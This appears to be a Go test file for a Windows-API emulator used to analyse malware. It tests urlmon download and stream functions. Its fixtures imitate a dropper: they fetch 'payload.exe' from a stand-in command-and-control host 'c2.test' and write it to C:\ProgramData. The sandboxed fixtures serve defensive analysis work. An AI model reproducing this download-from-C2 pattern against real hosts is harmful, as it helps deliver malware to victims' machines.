package urlmon_test

import (
	"encoding/binary"
	"strings"
	"testing"

	"sidetrace/emulator/guest"
	"sidetrace/emulator/win/kernel32"
	"sidetrace/emulator/win/urlmon"
	"sidetrace/emulator/win/wintest"
)

const dll = "urlmon.dll"

func machine(t *testing.T) *wintest.Machine {
	return wintest.New(t, guest.Config{
		DNS: map[string][]string{"dark.test": {"203.0.113.9"}},
		Web: []guest.WebAnswer{
			{URL: "https://c2.test/files/payload.exe", Body: []byte("MZ and more")},
			{URL: "http://c2.test/moved", Status: 302, Headers: map[string]string{"Location": "https://c2.test/files/payload.exe"}},
		},
	}, urlmon.Table(), kernel32.Tables()[0])
}

func status(t *testing.T, m *wintest.Machine, want uint32, name string, args ...uint64) {
	t.Helper()
	if got, _, line := m.Call(dll, name, args...); uint32(got) != want {
		t.Fatalf("%s: got %#x, want %#x", line, uint32(got), want)
	}
}

func TestDownloadToFile(t *testing.T) {
	m := machine(t)
	for _, tt := range []struct {
		url  string
		want uint32
	}{
		{"http://c2.test/moved", 0}, {"https://c2.test/none", 0x800C0006}, {"https://nobody.test/", 0x800C0005},
		{"http://dark.test/", 0x800C0004}, {"no URL", 0x800C0002}, {"gopher://c2.test/", 0x800C000D},
	} {
		status(t, m, tt.want, "URLDownloadToFileW", 0, m.WString(tt.url), m.WString(`C:\ProgramData\p.exe`), 0, 0)
	}
	if n := m.Files.Get(`C:\ProgramData\p.exe`); n == nil || string(n.Data()) != "MZ and more" {
		t.Errorf("got %v", n)
	}
	if got := m.Behaviours("file.write"); len(got) != 1 {
		t.Errorf("got %q", got)
	}
	status(t, m, 0x80070003, "URLDownloadToFileA", 0, m.AString("http://c2.test/moved"), m.AString(`C:\nowhere\p.exe`), 0, 0)
}

// The callback's methods count their calls at this+8 and return S_OK.
func TestDownloadCallsBack(t *testing.T) {
	m := machine(t)
	code, _, _ := m.Call("kernel32.dll", "VirtualAlloc", 0, 4096, 0x3000, 0x40)
	m.Put(code, []byte{0xFF, 0x41, 0x08, 0x31, 0xC0, 0xC3}) // inc dword [rcx+8]; xor eax, eax; ret
	var table []byte
	for range 11 {
		table = binary.LittleEndian.AppendUint64(table, code)
	}
	object := m.Bytes(binary.LittleEndian.AppendUint64(binary.LittleEndian.AppendUint64(nil, m.Bytes(table)), 0))
	path := m.Alloc(600)
	status(t, m, 0, "URLDownloadToCacheFileA", 0, m.AString("https://c2.test/files/payload.exe"), path, 260, 0, object)
	if got := m.Uint(object+8, 4); got != 8 { // start, six of progress, stop
		t.Errorf("%d calls", got)
	}
	name, _, _ := strings.Cut(string(m.Get(path, 260)), "\x00")
	if !strings.HasSuffix(name, `\payload[1].exe`) || m.Files.Get(name) == nil {
		t.Errorf("got %q", name)
	}
}

func TestStream(t *testing.T) {
	m := machine(t)
	out, buffer := m.Alloc(8), m.Alloc(64)
	status(t, m, 0, "URLOpenBlockingStreamW", 0, m.WString("https://c2.test/files/payload.exe"), out, 0, 0)
	stream := m.Uint(out, 8)
	if vtable := m.Uint(stream, 8); m.Uint(vtable+3*8, 8) < guest.SystemBase || m.Uint(vtable+13*8, 8) < guest.SystemBase {
		t.Error("the vtable has no methods")
	}
	status(t, m, 0, "UrlStream::Read", stream, buffer, 2, out)
	status(t, m, 1, "UrlStream::Read", stream, buffer+2, 62, out)
	if got := string(m.Get(buffer, 11)); got != "MZ and more" || m.Uint(out, 4) != 9 {
		t.Errorf("got %q", got)
	}
	status(t, m, 0, "UrlStream::Seek", stream, 3, 0, 0)
	status(t, m, 0, "UrlStream::Clone", stream, out)
	clone := m.Uint(out, 8)
	status(t, m, 0, "UrlStream::Read", clone, buffer, 3, 0)
	if got := string(m.Get(buffer, 3)); got != "and" {
		t.Errorf("got %q", got)
	}
	iid := m.Bytes([]byte{0x0C, 0, 0, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46})
	status(t, m, 0, "UrlStream::QueryInterface", stream, iid, out)
	status(t, m, 0x80004002, "UrlStream::QueryInterface", stream, m.Bytes(make([]byte, 16)), out)
	status(t, m, 1, "UrlStream::Release", stream)
	status(t, m, 0, "UrlStream::Release", stream)
	status(t, m, 0x8000FFFF, "UrlStream::Read", stream, buffer, 3, 0)
}
